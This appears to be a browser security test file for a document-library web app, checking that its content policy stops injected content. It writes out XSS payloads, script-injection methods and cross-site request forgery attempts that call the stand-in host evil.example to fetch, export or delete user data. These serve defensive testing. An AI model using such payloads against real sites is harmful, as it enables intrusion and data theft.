"""The pages in Chromium against what must not come alive in them: what the policy stops, what is opened by itself, and the places where
text of others is shown that `test_hostile.py` does not go to: the list of conversations, kept answers, domains, adapters, failures.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from tests.conftest import wait_until
from tests.server.chromium import launched, watched
from tests.server.conftest import Served
from tests.server.test_hostile import _DANGERS, MOSTLY_OWN, OWN, STRINGS, answered, batches, seen, shown, told

from playwright.sync_api import Browser, Error, Page, expect  # isort: skip

pytestmark = pytest.mark.browser

PAGES = ("/", "/library", "/docs")


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """One for all pages."""
    with launched() as browser:
        yield browser


@contextmanager
def attacked(browser: Browser, served: Served) -> Iterator[tuple[Page, list[str]]]:
    """A page in which something may be tried: what ran or left is in the list. The policy's own words are no failure here."""
    context = browser.new_context(base_url=served.url, accept_downloads=True)
    page = context.new_page()
    ran: list[str] = []
    page.on("dialog", lambda dialog: (ran.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    page.on("popup", lambda popup: ran.append(f"window: {popup.url}"))
    # What the policy stops is told as a request too; what is to be routed has passed it.
    ours = (served.url, "data:", "blob:", "chrome-extension:", "chrome://resources/")  # Chromium's own viewer of PDF
    context.route(lambda url: not url.startswith(ours), lambda route: (ran.append(route.request.url), route.abort()))
    page.set_default_timeout(30_000)
    try:
        yield page, ran
    finally:
        context.close()


# What somebody could do who has managed to put an element or a string where none should get: each is a way to run or to call out. The
# document is one of the library's, so it comes from our own origin.
_WAYS = """(script) => {
  window.alive = [];
  const made = (name, fields, text) => Object.assign(document.createElement(name), fields, text ? { textContent: text } : {});
  const add = (name, fields, text) => document.body.append(made(name, fields, text));
  const tried = (name, way) => { try { way(); } catch (error) { (window.stopped ??= []).push(name); } };
  tried("inline", () => add("script", {}, "window.alive.push('inline')"));
  tried("own file", () => add("script", { src: "/static/theme.js", onload: () => window.alive.push("own file") }));
  tried("document", () => add("script", { src: script, onload: () => window.alive.push("document") }));
  tried("document as module", () => add("script", { type: "module", src: script, onload: () => window.alive.push("document as module") }));
  tried("elsewhere", () => add("script", { src: "https://evil.example/x.js" }));
  const p = made("p", {});
  tried("attribute", () => { p.setAttribute("onclick", "window.alive.push('attribute')"); p.click(); });
  tried("markup", () => { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=window.alive.push('markup')>"); });
  // Later, in the page's own turn: what the test runs by itself may do that anywhere.
  setTimeout(() => tried("eval", () => eval("window.alive.push('eval')")));
  setTimeout(() => tried("function", () => new Function("window.alive.push('function')")()));
  tried("timer", () => setTimeout("window.alive.push('timer')", 0));
  tried("frame", () => add("iframe", { srcdoc: "<script>parent.alive.push('frame')</" + "script>" }));
  tried("foreign frame", () => add("iframe", { src: "https://evil.example/" }));
  tried("object", () => add("object", { data: script }));
  tried("base", () => add("base", { href: "https://evil.example/" }));
  tried("picture", () => add("img", { src: "https://evil.example/x.png" }));
  tried("style", () => add("style", {}, "body { background: url(https://evil.example/y.png) }"));
  tried("sheet", () => add("link", { rel: "stylesheet", href: "https://evil.example/z.css" }));
  const form = made("form", { action: "https://evil.example/" });
  tried("form", () => { document.body.append(form); form.submit(); });
  tried("beacon", () => navigator.sendBeacon("https://evil.example/beacon", "x"));
  tried("socket", () => new WebSocket("wss://evil.example/"));
  tried("worker", () => new Worker(script));
  return fetch("https://evil.example/fetched").catch(() => {});
}"""


@pytest.fixture(scope="module")
def script(served: Served) -> str:
    """The address of a document that is a script: the library has source code too."""
    record = served.save("code/evil.js", "window.alive.push('document');\n")
    return f"/rag/documents/{record['id']}/file"


@pytest.mark.parametrize("path", PAGES)
def test_what_gets_into_a_page_all_the_same_cannot_run_or_call_out(browser: Browser, served: Served, script: str, path: str) -> None:
    """The second wall, for the day on which the first one has a hole: no way of twenty works, not even with a script of our own origin."""
    with attacked(browser, served) as (page, ran):
        page.goto(path)
        page.wait_for_load_state("networkidle")
        page.evaluate(_WAYS, script)
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.alive") == []
        assert ran == []
        assert page.url.startswith(served.url)
        assert page.evaluate("document.baseURI").startswith(served.url)


def test_the_attack_is_not_blind(browser: Browser, served: Served, script: str) -> None:
    """Without a policy the same ways do run and do call out."""
    with attacked(browser, served) as (page, ran):
        page.route(f"{served.url}/unprotected", lambda route: route.fulfill(content_type="text/html", body="<body>Nothing.</body>"))
        page.goto("/unprotected")
        ways = _WAYS.replace("form.submit();", "")  # it would leave the page
        page.evaluate(ways, script)
        alive = {"inline", "own file", "attribute", "markup", "eval", "function", "timer", "frame"}
        wait_until(lambda: alive <= set(page.evaluate("window.alive")), 30, "the ways to run")
        assert any("evil.example" in address for address in ran)
        # A document is no script even there: it is sent as text.
        assert not {"document", "document as module"} & set(page.evaluate("window.alive"))


OPENED = {
    "page.html": "<script>alert('RAN')</script><img src=https://evil.example/x.png><body onload=alert('RAN')>",
    "page.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert("RAN")</script></body></html>',
    "data.xml": '<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?><x xmlns:h="http://www.w3.org/1999/xhtml">'
    '<h:script>alert("RAN")</h:script></x>',
    "code.js": "alert('RAN')",
    "notes.md": "<script>alert('RAN')</script> ![x](https://evil.example/x.png)",
    "plain.txt": "<html><script>alert('RAN')</script></html>",
    "README": "<!doctype html><script>alert('RAN')</script>",
    "style.css": "@import 'https://evil.example/x.css';",
    "picture.png": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert('RAN')</script></svg>",
    "paper.pdf": "<html><script>alert('RAN')</script></html>",
}  # fmt: skip


def test_a_document_that_is_opened_by_itself_runs_nothing(browser: Browser, served: Served) -> None:
    """In our own origin, where the cookie is: pages, drawings and XML come as downloads, the rest as the text or picture it says it is."""
    downloads, shown_as = [], {}
    with attacked(browser, served) as (page, ran):
        for name, content in OPENED.items():
            record = served.save(f"opened/{name}", content)
            address = f"{served.url}/rag/documents/{record['id']}/file"
            page.goto("/health")
            try:
                page.goto(address)
            except Error as error:
                if "Download is starting" not in str(error) and "ERR_ABORTED" not in str(error):
                    raise
                downloads.append(name)
                continue
            shown_as[name] = page.evaluate("document.contentType")
            if shown_as[name] == "text/plain":
                assert page.evaluate("document.scripts.length") == 0
        assert ran == []
    assert {"page.html", "page.xhtml", "data.xml"} <= set(downloads)
    assert {kind for name, kind in shown_as.items() if name.endswith((".md", ".txt", ".css"))} == {"text/plain"}
    assert "text/html" not in {kind for name, kind in shown_as.items() if name != "paper.pdf"}


def test_another_sites_page_gets_nothing_of_ours(browser: Browser, served: Served, script: str) -> None:
    """By picture, script, frame, fetch, form or opener, with the browser of somebody who may see everything."""
    record = served.save("private/plan.md", "# Plan\n\nThe plan is secret.\n")
    before = sorted(served.corpora.rglob("*"))
    with served.client() as client:
        others = client.get("/rag/conversations").json()["items"]  # of other tests
    body = f"""<body><script>
      window.got = [];
      const room = {json.dumps(served.url)}, note = (name) => () => window.got.push(name);
      const element = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
      element("img", {{ src: room + "/static/favicon.svg", onload: note("picture") }});
      element("script", {{ src: room + "/rag/domains", onload: note("script of JSON") }});
      element("script", {{ src: room + {json.dumps(script)}, onload: note("script of a document") }});
      element("link", {{ rel: "stylesheet", href: room + "/static/app.css", onload: note("style") }});
      const calls = [["GET", "/rag/documents/{record["id"]}/text"], ["GET", "/rag/conversations/export"],
        ["DELETE", "/rag/documents/{record["id"]}"], ["POST", "/rag/sync"], ["POST", "/rag/conversations"]];
      window.done = Promise.all(calls.flatMap(([method, path]) => ["cors", "no-cors"].map((mode) =>
        fetch(room + path, {{ method: mode === "no-cors" && method === "DELETE" ? "POST" : method, mode, credentials: "include" }})
          .then((r) => r.type !== "opaque" && r.text()).then((text) => text && window.got.push(method + path), () => null))));
    </script>
    <form method=post enctype=text/plain action="{served.url}/rag/search" target=answer><input name='{{"question":"' value='x"}}'></form>
    <iframe name=answer></iframe><iframe src="{served.url}/library"></iframe></body>"""
    context = browser.new_context()
    page = context.new_page()
    answers: list[tuple[str, str, int]] = []
    page.on("response", lambda r: answers.append((r.request.method, r.url, r.status)) if r.url.startswith(served.url) else None)
    page.route("http://evil.example/**", lambda route: route.fulfill(content_type="text/html", body=body))
    try:
        page.goto("http://evil.example/")
        page.evaluate("window.done")
        page.evaluate("document.forms[0].submit()")
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.got") == []
        frames = [frame.url for frame in page.frames]
        assert not any(frame.url.startswith(served.url) and frame.content().count("<main") for frame in page.frames), frames
    finally:
        context.close()
    assert [one for one in answers if one[2] < 400] == []
    with served.client() as client:
        assert client.get(f"/rag/documents/{record['id']}").status_code == 200
        assert client.get("/rag/conversations").json()["items"] == others
    assert sorted(served.corpora.rglob("*")) == before


def kept(texts: list[str]) -> dict[str, Any]:
    """A conversation as the server keeps it: each question, and the one answer, are these texts."""
    events = [json.loads(event.decode().partition("\ndata: ")[2]) for event in answered(texts) if isinstance(event, bytes)]
    found, done = events[0], events[-1]
    turn = {
        "number": 1,
        "question": " ".join(texts)[:2000],
        "domain": texts[0],
        "asked_at": 1.79e9,
        "thumb": "down",
        "reason": texts[-1],
        "gone": 0,
    }
    record = {"id": "c" * 22, "title": texts[0], "created_at": 1.79e9, "updated_at": 1.79e9, "kept": True}
    return {**record, "turns": [{**turn, **found, **done, "conversation_id": record["id"]}]}


@pytest.mark.parametrize("strings", MOSTLY_OWN)
def test_in_kept_conversations_they_are_text(browser: Browser, served: Served, strings: str) -> None:
    """Titles in the list, and questions, answers and reasons that are read again later."""
    texts = STRINGS[strings]()
    items = [{"id": f"c{n}", "title": text, "created_at": 1.79e9, "updated_at": 1.79e9, "turns": 1} for n, text in enumerate(texts)]
    listing = re.compile(r"/rag/conversations(\?|$)")
    with watched(browser, served.url, base_url=served.url) as page:
        told(page, listing, "application/json", json.dumps({"items": items, "next_cursor": None, "kept": True}))
        for n, batch in enumerate(batches(texts, 60)):
            told(page, re.compile(r"/rag/conversations/c{22}$"), "application/json", json.dumps(kept(batch)))
            page.goto("/health")
            page.goto(f"/#c={'c' * 22}")
            expect(page.locator(".turn").first).to_have_attribute("data-state", "done", timeout=60_000)
            everything = shown(page, "body")
            for text in batch:
                assert seen(text) in everything
            if n == 0:
                expect(page.locator(".side-link")).to_have_count(len(texts), timeout=60_000)
                for text in texts:
                    assert seen(text) in everything
                page.locator(".side-actions").first.click()
                page.keyboard.press("Escape")
            assert page.evaluate(_DANGERS, ".turn .answer") == []
            assert page.evaluate(_DANGERS, "#conversations") == []
            page.unroute(re.compile(r"/rag/conversations/c{22}$"))


def test_in_pickers_and_failures_they_are_text(browser: Browser, served: Served) -> None:
    """Titles and descriptions of domains, names of adapters, and what a failed call says."""
    domains = [
        {"name": text, "title": text, "description": text, "languages": ["en"], "adapter": text, "documents": {"indexed": 1}, "chunks": 1,
         "status": "failed", "error": text}
        for text in OWN
    ]  # fmt: skip
    adapters = [{"name": text, "description": text, "licence": text, "base": text} for text in OWN]
    with watched(browser, served.url, base_url=served.url) as page:
        told(page, "**/rag/domains", "application/json", json.dumps({"items": domains}))
        told(page, "**/rag/adapters", "application/json", json.dumps({"items": adapters}))
        page.goto("/")
        expect(page.locator("#domain option")).to_have_count(len(OWN) + 1, timeout=60_000)
        for n in (0, 3, len(OWN)):
            page.select_option("#domain", index=n)
            assert page.evaluate(_DANGERS, "main, .ask-tools") == []
        everything = shown(page, "#domain, #adapter")
        for text in OWN:
            assert seen(text) in everything
        problem = {"type": "urn:readingroom:x", "title": OWN[0], "status": 500, "detail": " ".join(OWN[:20]), "code": "x", "remedy": OWN[2]}
        page.route("**/rag/ask", lambda route: route.fulfill(status=500, content_type="application/problem+json", body=json.dumps(problem)))
        page.fill("#question", "Why?")
        page.press("#question", "Enter")
        turn = page.locator(".turn").last
        expect(turn).to_have_attribute("data-state", "failed", timeout=60_000)
        assert seen(OWN[2]) in shown(page, ".turn")
        assert page.evaluate(_DANGERS, ".turn .answer") == []
